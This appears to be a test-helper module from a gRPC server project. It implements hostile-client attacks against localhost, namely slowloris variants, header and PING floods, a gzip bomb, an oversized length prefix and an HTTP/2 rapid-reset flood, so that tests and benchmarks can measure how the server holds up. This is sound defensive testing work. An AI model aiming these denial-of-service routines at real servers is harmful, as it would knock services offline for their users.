/**
 * Attacks on a gRPC server by a hostile client (issue 15, server side), each
 * a function that runs one attack against 127.0.0.1:`port` and returns what
 * the attacker saw. test/hostile/server-held.test.ts asserts on what they
 * return; bench/hostile.ts measures what the server holds after each.
 */
import { once } from "node:events";
import type http2 from "node:http2";
import net from "node:net";
import { gzipSync } from "node:zlib";
import { UploadChunk } from "../../generated-example/example/v1/chat.js";
import { connectRaw, type RawStream } from "./raw-client.js";

export const PATHS = {
  post: "/example.v1.Chat/Post",
  watch: "/example.v1.Chat/Watch",
  upload: "/example.v1.Chat/Upload",
  converse: "/example.v1.Chat/Converse",
} as const;

/** HTTP/2 error codes (RFC 9113, section 7) that the attacks meet. */
export const H2 = { NO_ERROR: 0, INTERNAL_ERROR: 2, CANCEL: 8, COMPRESSION_ERROR: 9, ENHANCE_YOUR_CALM: 11 } as const;

/** How a raw call ended, as the attacker saw it. */
export interface Answer {
  /** `grpc-status` from the trailers or trailers-only headers; undefined if none came. */
  status: number | undefined;
  /** `grpc-message`, decoded. */
  message: string | undefined;
  /** The RST_STREAM or GOAWAY code the stream closed with, if it closed before a status came. */
  rstCode: number | undefined;
  /** From `open` to the status or the close. */
  elapsedMs: number;
}

/**
 * The first status the server sends on `raw`, or how the stream closed if it
 * closed first. It does not wait for the stream to close: a server may end a
 * call while the attacker keeps its own half of the stream open.
 */
export function answerOf(raw: RawStream, openedAt = Date.now()): Promise<Answer> {
  const { stream } = raw;
  return new Promise((resolve) => {
    const take = (headers: http2.IncomingHttpHeaders): void => {
      const status = headers["grpc-status"];
      if (status !== undefined) {
        const message = headers["grpc-message"];
        resolve({
          status: Number(status),
          message: message === undefined ? undefined : decodeURIComponent(String(message)),
          rstCode: undefined,
          elapsedMs: Date.now() - openedAt,
        });
      }
    };
    stream.on("response", take);
    stream.on("trailers", take);
    stream.on("close", () =>
      resolve({ status: undefined, message: undefined, rstCode: stream.rstCode, elapsedMs: Date.now() - openedAt }),
    );
  });
}

/** One UploadChunk with `size` bytes of data, as a whole gRPC frame. */
export function uploadFrame(size: number): Buffer {
  const payload = UploadChunk.encode({ name: "slow", data: new Uint8Array(size) }).finish();
  const frame = Buffer.alloc(5 + payload.length);
  frame.writeUInt32BE(payload.length, 1);
  frame.set(payload, 5);
  return frame;
}

export type Slowloris = "dribbled-message" | "headers-only" | "slow-messages";

/**
 * A slow client on a streaming method:
 * - `dribbled-message`: one request message, 2 bytes every `everyMs`;
 * - `headers-only`: the request's HEADERS, then nothing;
 * - `slow-messages`: a whole small message every `everyMs`, for ever.
 * Resolves with the server's answer; the attacker then closes its session.
 */
export async function slowloris(port: number, path: string, how: Slowloris, everyMs: number): Promise<Answer> {
  const client = await connectRaw(port);
  const openedAt = Date.now();
  const call = client.open(path);
  const answer = answerOf(call, openedAt);
  const frame = uploadFrame(64);
  let sent = 0;
  const timer =
    how === "headers-only"
      ? undefined
      : setInterval(() => {
          if (how === "slow-messages") {
            call.writeBytes(frame);
          } else if (sent < frame.length) {
            call.writeBytes(frame.subarray(sent, sent + 2));
            sent += 2;
          }
        }, everyMs);
  try {
    return await answer;
  } finally {
    clearInterval(timer);
    await client.close();
  }
}

/** What a header flood got back. */
export interface FloodAnswer extends Answer {
  /** The GOAWAY's error code, if the server ended the attacker's session. */
  goaway: number | undefined;
}

export type HeaderFlood = "one-huge-header" | "many-headers";

/**
 * A unary call whose metadata is a flood: one header of 300 KiB, or 2,000
 * headers of 100 bytes (about 200 KiB). After the stream's end, a PING
 * round trip (or the session's close) tells whether the server also sent
 * GOAWAY: it writes frames in order, so a GOAWAY comes before the ACK.
 */
export async function headerFlood(port: number, how: HeaderFlood): Promise<FloodAnswer> {
  // Node's client refuses to send a header block over 64 KiB by default.
  const client = await connectRaw(port, {}, { maxSendHeaderBlockLength: 16 << 20 });
  const { session } = client;
  let goaway: number | undefined;
  session.on("goaway", (code) => {
    goaway = code;
  });
  const headers =
    how === "one-huge-header"
      ? { "x-flood": "a".repeat(300 << 10) }
      : Object.fromEntries(Array.from({ length: 2000 }, (_, i) => [`x-flood-${i}`, "v".repeat(100)]));
  try {
    const call = client.open(PATHS.post, { headers });
    const answer = answerOf(call);
    call.writeMessage(new Uint8Array(0));
    call.end();
    const flooded = await answer;
    if (!session.closed && !session.destroyed) {
      await new Promise<void>((resolve) => {
        session.once("close", resolve);
        session.ping(() => resolve());
      });
    }
    return { ...flooded, goaway };
  } finally {
    await client.close();
  }
}

/** What a PING flood got back, frame by frame. */
export interface PingFloodAnswer {
  /** PING frames with the ACK flag. */
  acks: number;
  /** The GOAWAY, if one came. */
  goaway: { code: number; lastStreamId: number } | undefined;
  /** Whether the server closed the connection. */
  closedByServer: boolean;
}

/**
 * Opens a TCP connection and sends HTTP/2's preface, an empty SETTINGS frame
 * and `count` PING frames in one write. Reads what comes back until every
 * PING is acknowledged or the server closes the connection (or, as a hang
 * guard, `waitMs` pass), then closes it.
 */
export async function pingFlood(port: number, count: number, waitMs: number): Promise<PingFloodAnswer> {
  const socket = net.connect(port, "127.0.0.1");
  socket.on("error", () => {});
  await once(socket, "connect");
  const answer: PingFloodAnswer = { acks: 0, goaway: undefined, closedByServer: false };
  let pending = Buffer.alloc(0);
  const done = new Promise<void>((resolve) => {
    const guard = setTimeout(resolve, waitMs);
    const finish = (): void => {
      clearTimeout(guard);
      resolve();
    };
    socket.on("close", () => {
      answer.closedByServer = true;
      finish();
    });
    socket.on("data", (chunk: Buffer) => {
      pending = Buffer.concat([pending, chunk]);
      while (pending.length >= 9 && pending.length >= 9 + pending.readUIntBE(0, 3)) {
        const type = pending[3];
        if (type === 0x6 && ((pending[4] ?? 0) & 0x1) === 1) {
          answer.acks++;
        } else if (type === 0x7) {
          answer.goaway = { lastStreamId: pending.readUInt32BE(9) & 0x7fffffff, code: pending.readUInt32BE(13) };
        }
        pending = pending.subarray(9 + pending.readUIntBE(0, 3));
      }
      if (answer.acks === count) finish();
    });
  });
  const ping = h2Frame(0x6, 0, Buffer.alloc(8));
  socket.write(
    Buffer.concat([
      Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
      h2Frame(0x4, 0, Buffer.alloc(0)),
      ...Array(count).fill(ping),
    ]),
  );
  await done;
  socket.removeAllListeners("close");
  if (!socket.destroyed) {
    socket.destroy();
    await once(socket, "close");
  }
  return answer;
}

/** One HTTP/2 frame on stream 0. */
function h2Frame(type: number, flags: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt8(flags, 4);
  return Buffer.concat([header, payload]);
}

/**
 * A gzip bomb: 1,024 gzip members of 1 MiB of zeros each, concatenated,
 * about 1 MiB on the wire that inflates to 1 GiB. (A gunzip stream reads
 * concatenated members as one body.)
 */
export function gzipBomb(): Buffer {
  return Buffer.concat(Array(1024).fill(gzipSync(Buffer.alloc(1 << 20), { level: 9 })));
}

/** Sends `bomb` as one compressed message with `grpc-encoding: gzip`, and END_STREAM. */
export async function sendGzipBomb(port: number, path: string, bomb: Buffer): Promise<Answer> {
  const client = await connectRaw(port);
  try {
    const call = client.open(path, { headers: { "grpc-encoding": "gzip" } });
    const answer = answerOf(call);
    call.writeMessage(bomb, { compressed: true });
    call.end();
    return await answer;
  } finally {
    await client.close();
  }
}

/**
 * A length prefix of 0xFFFFFFFF (4 GiB) followed by 10 bytes, and nothing
 * more: the stream stays open, so only a server that reads the prefix and
 * refuses it at once answers.
 */
export async function hugeLengthPrefix(port: number, path: string): Promise<Answer> {
  const client = await connectRaw(port);
  try {
    const call = client.open(path);
    const answer = answerOf(call);
    call.writeMessage(new Uint8Array(10), { length: 0xffffffff });
    return await answer;
  } finally {
    await client.close();
  }
}

/** What a flood of cancelled streams met. */
export interface ResetFloodAnswer {
  /** Streams opened, and how many of them closed. */
  opened: number;
  closed: number;
  /** Connections the attacker needed: a new one each time the server sent GOAWAY. */
  sessions: number;
  /** Each GOAWAY: its code and last-stream-id. */
  goaways: Array<{ code: number; lastStreamId: number }>;
}

/**
 * Opens `count` streams on the four methods and resets each with
 * RST_STREAM CANCEL at a point chosen by a PRNG seeded with `seed`: at once,
 * after part of a message, after a whole message, or after END_STREAM, and
 * after 0 to 3 turns of the event loop. Up to `window` streams are open at
 * once. When the server sends GOAWAY, the attacker reconnects.
 */
export async function resetFlood(port: number, count: number, seed: number, window = 200): Promise<ResetFloodAnswer> {
  const random = mulberry32(seed);
  const paths = Object.values(PATHS);
  const result: ResetFloodAnswer = { opened: 0, closed: 0, sessions: 0, goaways: [] };
  const partial = Buffer.from([0, 0, 0, 0, 20, 10, 4]);
  while (result.opened < count) {
    const client = await connectRaw(port);
    result.sessions++;
    let gone = false;
    client.session.on("goaway", (code, lastStreamId) => {
      gone = true;
      result.goaways.push({ code, lastStreamId });
    });
    client.session.on("close", () => {
      gone = true;
    });
    const inFlight: Array<Promise<unknown>> = [];
    while (result.opened < count && !gone && !client.session.closed && !client.session.destroyed) {
      const call = client.open(paths[Math.floor(random() * paths.length)] as string);
      result.opened++;
      inFlight.push(call.outcome.then(() => result.closed++));
      const point = Math.floor(random() * 4);
      if (point === 1) call.writeBytes(partial);
      if (point >= 2) call.writeMessage(new Uint8Array(0));
      if (point === 3) call.end();
      resetLater(call, Math.floor(random() * 4));
      if (inFlight.length >= window) {
        await Promise.all(inFlight.splice(0));
      }
    }
    await Promise.all(inFlight);
    await client.close();
  }
  return result;
}

function resetLater(call: RawStream, turns: number): void {
  if (turns === 0) {
    call.stream.close(H2.CANCEL);
  } else {
    setImmediate(() => resetLater(call, turns - 1));
  }
}

/** A small seeded PRNG (mulberry32), so that a failing run can be replayed. */
function mulberry32(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
